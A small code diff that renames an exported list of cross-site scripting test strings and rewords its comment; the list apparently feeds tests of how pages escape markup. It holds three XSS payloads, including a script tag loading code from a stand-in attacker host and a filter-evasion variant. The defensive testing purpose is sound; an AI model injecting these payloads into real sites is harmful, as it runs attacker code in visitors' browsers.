@@ -1,5 +1,5 @@
-/** Texts that would run, load or hide something if a page took them for markup. */
-export const planted: string[] = [
+/** Texts that would run, load or hide something if a page treated them as markup. */
+export const plantedScripts: string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
